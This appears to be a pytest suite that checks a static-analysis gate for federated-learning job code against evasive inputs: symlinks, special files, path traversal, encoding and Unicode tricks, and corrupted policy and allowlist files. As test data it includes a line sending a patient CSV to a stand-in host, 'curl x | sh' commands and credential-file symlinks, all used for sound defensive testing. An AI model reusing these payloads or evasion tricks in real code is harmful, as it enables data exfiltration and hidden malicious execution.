"""Inputs the gate must withstand, each through the real CLI as a site admin or
a CI job runs it: odd file-system entries, encodings, Unicode tricks, broken
site-side files and empty targets. Every run is timed and its peak memory
measured; the decision is never accept for what the gate could not judge."""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

ROOT = Path(__file__).resolve().parents[1]
PYTHON = sys.executable
EXFIL = "import requests\nrequests.post('https://x.example', data=open('/data/patients.csv').read())\n"
CLEAN = "import numpy as np\nprint(np.zeros(3).sum())\n"
TIME_BUDGET = 60.0  # seconds for one CLI run on a loaded 2-core machine
MEMORY_BUDGET_MB = 1024


@dataclass
class Run:
    code: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float

    @property
    def report(self) -> dict:
        return json.loads(self.stdout)["reports"][0]

    @property
    def decision(self) -> str:
        return self.report["decision"]

    @property
    def rules(self) -> set[str]:
        return {f["rule"] for f in self.report["findings"]}


# Root reads and writes whatever the mode bits say: to meet an unreadable or
# unwritable file, run the gate without the capabilities that override them.
NO_OVERRIDE = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"] if os.geteuid() == 0 else []


# A process forked from pytest starts with pytest's pages counted in its peak
# (the kernel keeps the high-water mark across exec): let a small process fork
# the gate and report the gate's own peak (GNU time's %M), where there is one.
GNU_TIME = "/usr/bin/time" if os.path.exists("/usr/bin/time") else None


def run(*args: str | Path, bound_by_modes: bool = False) -> Run:
    """One `jobgate` process, timed, with its peak resident memory."""
    prefix = NO_OVERRIDE if bound_by_modes else []
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err, \
            tempfile.NamedTemporaryFile("r") as peak:
        measure = [GNU_TIME, "-f", "%M", "-o", peak.name] if GNU_TIME else []
        start = time.monotonic()
        proc = subprocess.Popen([*prefix, *measure, PYTHON, "-m", "analyzer.commands.cli", *map(str, args)], cwd=ROOT,
                                stdout=out, stderr=err)
        try:
            _, status, usage = _wait4(proc.pid, TIME_BUDGET * 2)
        finally:
            proc.returncode = 0  # reaped by wait4 above (or killed there)
        seconds = time.monotonic() - start
        out.seek(0)
        err.seek(0)
        kb = peak.read().strip().splitlines()[-1:] if GNU_TIME else []
        r = Run(os.waitstatus_to_exitcode(status), out.read().decode(), err.read().decode(), seconds,
                (int(kb[0]) if kb and kb[0].isdigit() else usage.ru_maxrss) / 1024)
    _record(r)
    return r


def _record(r: Run) -> None:
    """With JOBGATE_INPUTS_TABLE=FILE, one JSON line per run: the table the closing notes quote."""
    table = os.environ.get("JOBGATE_INPUTS_TABLE")
    if not table:
        return
    try:
        outcome = r.decision
    except (ValueError, KeyError, IndexError):
        outcome = f"exit {r.code}"
    with open(table, "a", encoding="utf-8") as fh:
        fh.write(json.dumps({"test": os.environ.get("PYTEST_CURRENT_TEST", "").split(" ")[0], "outcome": outcome,
                             "seconds": round(r.seconds, 2), "peak_mb": round(r.peak_mb)}) + "\n")


def _wait4(pid: int, timeout: float):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        done, status, usage = os.wait4(pid, os.WNOHANG)
        if done:
            return done, status, usage
        time.sleep(0.02)
    os.kill(pid, 9)
    os.wait4(pid, 0)
    raise AssertionError(f"jobgate did not finish within {timeout:.0f} s")


def scan(target: Path, *args: str | Path, bound_by_modes: bool = False) -> Run:
    r = run("scan", "--format", "json", target, *args, bound_by_modes=bound_by_modes)
    assert r.code in (0, 1, 3) and r.stdout, r.stderr
    assert "Traceback" not in r.stderr, r.stderr
    assert r.seconds < TIME_BUDGET and r.peak_mb < MEMORY_BUDGET_MB, (r.seconds, r.peak_mb)
    return r


def usage_error(*args: str | Path) -> Run:
    r = run(*args)
    assert r.code == 2 and not r.stdout and "Traceback" not in r.stderr, (r.code, r.stdout, r.stderr)
    assert r.stderr.startswith("jobgate: ") and len(r.stderr.strip().splitlines()) <= 8, r.stderr
    return r


def folder(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, body in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(body.encode() if isinstance(body, str) else body)
    return root


# ------------------------------------------------------- file-system entries

def test_symlink_inside_the_job_is_reported_not_followed(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN, "real.py": EXFIL})
    (job / "alias.py").symlink_to("real.py")
    r = scan(job)
    link = next(f for f in r.report["files"] if f["path"] == "alias.py")
    assert link["kind"] == "symlink" and "unanalyzable.symlink" in r.rules
    assert r.decision == "reject"  # real.py itself is still analysed


@pytest.mark.parametrize("target", ["/etc/passwd", "/dev/zero", "/proc/self/environ", "../../../../../../etc"])
def test_symlink_out_of_the_job_is_never_followed(tmp_path: Path, target: str) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN})
    (job / "data").symlink_to(target)
    r = scan(job)
    assert r.decision == "escalate" and "unanalyzable.symlink" in r.rules
    assert {f["path"] for f in r.report["files"]} == {"train.py", "data"}  # nothing under a linked folder


def test_symlinked_app_folder_of_an_nvflare_job_is_not_walked(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"meta.json": json.dumps({"name": "j", "deploy_map": {"app": ["site-1"]}})})
    (job / "app").symlink_to("/etc")
    r = scan(job)
    assert r.decision == "escalate" and "unanalyzable.missing-app" in r.rules and not r.report["files"]


def test_hard_link_is_analysed_as_its_bytes_and_reported(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": EXFIL})
    os.link(job / "train.py", job / "copy.py")
    r = scan(job)
    assert r.decision == "reject" and "collect.hard-link" in r.rules
    assert {f["path"] for f in r.report["findings"] if f["rule"] == "network.http-client"} == {"train.py", "copy.py"}


def test_fifo_is_never_opened(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN})
    os.mkfifo(job / "config.json")  # nobody ever writes to it: opening it for reading would block
    r = scan(job)
    assert r.decision == "escalate" and "unanalyzable.special-file" in r.rules and r.seconds < TIME_BUDGET


def test_socket_is_reported(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN})
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(job / "sock"))
        r = scan(job)
    assert r.decision == "escalate" and "unanalyzable.special-file" in r.rules


def test_device_file_is_never_read(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN})
    try:
        os.mknod(job / "zero.py", 0o644 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero's device numbers
    except PermissionError:
        pytest.skip("no permission to make a device node here")
    r = scan(job)
    assert r.decision == "escalate" and "unanalyzable.special-file" in r.rules
    assert r.peak_mb < 200  # an endless device was not read


@pytest.mark.parametrize("app", ["../outside", "/etc", "app/../../outside", ".."])
def test_absolute_or_dotdot_app_names_never_leave_the_job(tmp_path: Path, app: str) -> None:
    folder(tmp_path / "outside", {"secret.py": EXFIL})
    job = folder(tmp_path / "job", {"meta.json": json.dumps({"name": "j", "deploy_map": {app: ["site-1"]}}),
                                    "app/custom/train.py": CLEAN})
    r = scan(job)
    assert r.decision == "escalate" and "unanalyzable.meta-json" in r.rules
    assert all("secret" not in f["path"] and not f["path"].startswith(("/", "..")) for f in r.report["files"])


def test_name_with_a_newline_is_kept_whole(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN, "evil\nname.py": EXFIL})
    r = scan(job)
    assert r.decision == "reject"
    assert "evil\nname.py" in {f["path"] for f in r.report["files"]}
    text = run("scan", job)
    assert "evil\\nname.py" in text.stdout or "evil\nname.py" not in text.stdout.splitlines()


def test_case_colliding_names_escalate(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN, "Train.py": CLEAN})
    r = scan(job)
    assert r.decision == "escalate" and "unanalyzable.case-collision" in r.rules


def test_unreadable_file_and_folder_are_reported_never_skipped(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": CLEAN, "secret.py": EXFIL, "locked/inner.py": EXFIL})
    (job / "secret.py").chmod(0)
    (job / "locked").chmod(0)
    try:
        r = scan(job, bound_by_modes=True)
    finally:
        (job / "locked").chmod(0o755)
    assert r.decision == "escalate"
    unreadable = {f["path"] for f in r.report["findings"] if f["rule"] == "unanalyzable.unreadable"}
    assert "secret.py" in unreadable and any("locked" in p for p in unreadable), unreadable


# ---------------------------------------------------------------- encodings

ENCODED = {
    "utf-8 BOM": (b"\xef\xbb\xbf" + EXFIL.encode(), {"reject"}),
    "invalid UTF-8": (b"x = '\xff\xfe'\n" + EXFIL.encode(), {"escalate", "reject"}),
    "NUL byte": (EXFIL.encode() + b"\x00\n", {"escalate", "reject"}),
    "latin-1 coding": (b"# -*- coding: latin-1 -*-\ns = '\xe9'\n" + EXFIL.encode(), {"reject"}),
    "utf-7 coding": (b"# coding: utf-7\nx = 1 +AAo-import os+ADs- os.system('id')\n", {"escalate", "reject"}),
    "unknown coding": (b"# coding: rot13\nvzcbeg bf\n", {"escalate", "reject"}),
    "CRLF": (EXFIL.replace("\n", "\r\n").encode(), {"reject"}),
    "lone CR": (b"x = 1\rimport os; os.system('curl x | sh')\r", {"reject"}),
    "form feed": (b"\x0cimport os\n\x0cos.system('curl x | sh')\n", {"reject"}),
}


@pytest.mark.parametrize("name", list(ENCODED))
def test_encodings_never_hide_code(tmp_path: Path, name: str) -> None:
    body, expected = ENCODED[name]
    job = folder(tmp_path / "job", {"train.py": body})
    r = scan(job)
    assert r.decision in expected, (name, r.decision, r.rules)


def test_the_bytes_analysed_are_the_bytes_hashed(tmp_path: Path) -> None:
    """The report's per-file hash is of the bytes that were analysed: a file
    changed right after the scan does not change what the report says."""
    import hashlib

    body = b"\xef\xbb\xbf# coding: utf-8\r\n" + EXFIL.encode()
    job = folder(tmp_path / "job", {"train.py": body})
    r = scan(job)
    assert r.report["files"][0]["sha256"] == hashlib.sha256(body).hexdigest() and r.decision == "reject"


# ------------------------------------------------------------ Unicode tricks

UNICODE = {
    # NFKC: Python runs `ｅｖａｌ` as eval.
    "NFKC identifier": ("ｅｖａｌ(input())\n", {"reject", "escalate"}),
    # Trojan Source: the comment hides the end of the string.
    "bidi override": ("access = 'user'\nif access != 'none\u202e \u2066# admin\u2069 \u2066':\n    print('ok')\n",
                      {"reject", "escalate"}),
    "zero-width in a name": ("import os\nos.sys\u200btem('id')\n", {"escalate"}),
    "zero-width folded away": ("import os\ngetattr(os, 'sys\u200btem'.replace('\u200b', ''))('id')\n", {"reject"}),
    "homoglyph module": ("import r\u0435quests\nr\u0435quests.post('https://x.example', data=b'1')\n",
                         {"reject", "escalate"}),
}


@pytest.mark.parametrize("name", list(UNICODE))
def test_unicode_tricks_are_never_accepted(tmp_path: Path, name: str) -> None:
    code, expected = UNICODE[name]
    job = folder(tmp_path / "job", {"train.py": code})
    r = scan(job)
    assert r.decision in expected, (name, r.decision, r.rules)


def test_a_homoglyph_module_shipped_with_the_job_is_analysed(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"train.py": "import r\u0435quests\nr\u0435quests.send()\n",
                                    "r\u0435quests.py": "def send():\n" + "".join("    " + ln + "\n"
                                                                               for ln in EXFIL.splitlines())})
    assert scan(job).decision == "reject"


# ------------------------------------------------------- site-side files

def _policy(tmp_path: Path, text: str | bytes) -> Path:
    p = tmp_path / "policy.yaml"
    p.write_bytes(text.encode() if isinstance(text, str) else text)
    return p


BROKEN_POLICIES = {
    "bad YAML": ("thresholds: {reject: 70\n", "not valid YAML"),
    "not a mapping": ("- 1\n- 2\n", "must be a mapping"),
    "wrong type": ("thresholds: {reject: seventy}\n", "thresholds.reject"),
    "unknown key": ("thresholdz: {reject: 70}\n", "thresholdz"),
    "NaN weight": ("scoring: {confidence: {low: .nan, medium: 0.7, high: 1.0}}\n", "finite"),
    "negative weight": ("scoring: {severity: {info: -1, low: 5, medium: 15, high: 40, critical: 75}}\n",
                        "not negative"),
    "infinite threshold": ("thresholds: {reject: .inf}\n", "thresholds.reject"),
    "true as a number": ("limits: {max_files: true}\n", "not true/false"),
    "swapped weights": ("scoring: {severity: {info: 0, low: 5, medium: 15, high: 80, critical: 75}}\n",
                        "must not decrease"),
    "binary garbage": (b"\xff\xfe\x00garbage\x00", "policy"),
    "a billion laughs": ("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                         "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n",
                         "d"),
}


@pytest.mark.parametrize("name", list(BROKEN_POLICIES))
def test_a_broken_policy_is_a_usage_error_naming_the_file(tmp_path: Path, name: str) -> None:
    text, says = BROKEN_POLICIES[name]
    job = folder(tmp_path / "job", {"train.py": EXFIL})
    r = usage_error("scan", job, "--policy", _policy(tmp_path, text))
    assert "policy.yaml" in r.stderr and says in r.stderr, r.stderr


@pytest.mark.parametrize("pack,says", [
    ("rules: [\n", "YAML"),
    ("pack: p\nrules: 7\n", "rules"),
    ("pack: p\nrules:\n  - id: p.x\n    category: network\n    severity: high\n    confidence: high\n"
     "    message: m\n    why: w\n    match: {calls: [a.b]}\n    surprise: 1\n", "surprise"),
])
def test_a_broken_rule_pack_is_a_usage_error(tmp_path: Path, pack: str, says: str) -> None:
    folder(tmp_path / "packs", {"p.yaml": pack})
    job = folder(tmp_path / "job", {"train.py": CLEAN})
    r = usage_error("scan", job, "--policy", _policy(tmp_path, "rule_packs: [packs]\n"))
    assert "p.yaml" in r.stderr and says in r.stderr, r.stderr


@pytest.fixture()
def site(tmp_path: Path) -> Path:
    from analyzer.trust import keys

    for who in ("gate", "alice"):
        keys.generate(tmp_path / who)
    _policy(tmp_path, "trust: {gate: gate.pub, reviewers: [alice.pub]}\n")
    return tmp_path


def test_a_corrupt_allowlist_blocks_with_a_message_and_is_left_as_it_was(site: Path) -> None:
    job = folder(site / "job", {"train.py": CLEAN})
    allow = site / "allowlist.jsonl"
    common = ("--policy", site / "policy.yaml", "--allowlist", allow)
    assert scan(job, *common, "--sign-with", site / "gate.key").decision == "accept"
    data = bytearray(allow.read_bytes())
    data[30] ^= 1
    allow.write_bytes(bytes(data))
    r = usage_error("scan", job, *common)
    assert "allowlist.jsonl:1:" in r.stderr and "allowlist repair" in r.stderr
    assert allow.read_bytes() == bytes(data)


def test_a_truncated_allowlist_still_decides_on_its_whole_lines(site: Path) -> None:
    job = folder(site / "job", {"train.py": CLEAN})
    allow = site / "allowlist.jsonl"
    common = ("--policy", site / "policy.yaml", "--allowlist", allow)
    scan(job, *common, "--sign-with", site / "gate.key")
    whole = allow.read_bytes()
    allow.write_bytes(whole + whole[: len(whole) // 2])  # a second line cut off midway
    r = scan(job, *common)
    assert r.decision == "accept" and any("allowlisted" in x for x in r.report["reasons"])


@pytest.mark.parametrize("what", ["file", "folder"])
def test_an_unwritable_allowlist_is_an_error_never_an_unrecorded_accept(site: Path, what: str) -> None:
    job = folder(site / "job", {"train.py": CLEAN})
    allow = site / "store/allowlist.jsonl"
    folder(site / "store", {"allowlist.jsonl": b""})
    (allow if what == "file" else site / "store").chmod(0o444 if what == "file" else 0o555)
    try:
        r = run("scan", job, "--policy", site / "policy.yaml", "--allowlist", allow, "--sign-with",
                site / "gate.key", bound_by_modes=True)
    finally:
        (site / "store").chmod(0o755)
    assert r.code == 2 and "allowlist" in r.stderr and "Traceback" not in r.stderr, (r.code, r.stderr)
    assert allow.read_bytes() == b""


def test_a_huge_allowlist_is_read_in_bounded_time(site: Path) -> None:
    from analyzer.trust import allowlist, keys
    from analyzer.policy import load_policy

    policy = load_policy(site / "policy.yaml")
    key = keys.load_private(site / "alice.key")
    prev, lines = allowlist.GENESIS, []
    for i in range(20_000):
        fields = {"digest": f"sha256:{i:064x}", "name": f"j{i}", "decision": "approved", "by": "reviewer",
                  "time": "2026-01-01T00:00:00Z", "note": "", "policy": policy.digest, "rules": "",
                  "jobgate": "0", "files": {}, "gate_decision": None, "overrode": None}
        _, raw = allowlist._signed_line(key, fields, prev, i + 1)
        lines.append(raw + b"\n")
        prev = allowlist._line_hash(raw)
    (site / "allowlist.jsonl").write_bytes(b"".join(lines))
    job = folder(site / "job", {"train.py": CLEAN})
    r = scan(job, "--policy", site / "policy.yaml", "--allowlist", site / "allowlist.jsonl")
    assert r.decision == "accept" and r.seconds < TIME_BUDGET


@pytest.mark.parametrize("damage", ["truncated meta", "garbage report", "missing content"])
def test_a_damaged_review_queue_item_is_reported_not_signed(site: Path, damage: str) -> None:
    from analyzer import api
    from analyzer.trust import review
    from analyzer.engine.collect import collect
    from analyzer.policy import load_policy

    policy = load_policy(site / "policy.yaml")
    content = collect(folder(site / "job", {"train.py": "import importlib, sys\nimportlib.import_module(sys.argv[1])\n"}),
                      policy.limits)
    qid = review.enqueue(site / "q", content, api.analyze(content, policy))
    item = site / "q" / qid
    if damage == "truncated meta":
        (item / "meta.json").write_bytes((item / "meta.json").read_bytes()[:40])
    elif damage == "garbage report":
        (item / "report.json").write_bytes(b"\x00\xff not json")
    else:
        (item / "content/train.py").unlink()
    listed = run("review", "list", "--queue", site / "q")
    assert listed.code == 0 and "Traceback" not in listed.stderr
    if damage == "truncated meta":
        assert "unreadable" in listed.stdout
    r = run("review", "approve", qid, "--queue", site / "q", "--key", site / "alice.key",
            "--allowlist", site / "allowlist.jsonl", "--policy", site / "policy.yaml")
    assert r.code in (1, 2) and "Traceback" not in r.stderr and not (site / "allowlist.jsonl").exists(), r.stderr


# --------------------------------------------------------- nothing to analyse

def test_an_empty_folder_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "empty/sub").mkdir(parents=True)
    assert "nothing to analyse" in usage_error("scan", tmp_path / "empty").stderr


def test_a_job_that_deploys_nothing_to_clients_is_a_usage_error(tmp_path: Path) -> None:
    job = folder(tmp_path / "job", {"meta.json": json.dumps({"name": "j", "deploy_map": {"srv": ["server"]}}),
                                    "srv/config/config_fed_server.json": "{}"})
    assert "nothing to analyse" in usage_error("scan", job).stderr


def test_an_empty_python_file_is_analysed(tmp_path: Path) -> None:
    (tmp_path / "empty.py").write_bytes(b"")
    assert scan(tmp_path / "empty.py").decision == "accept"
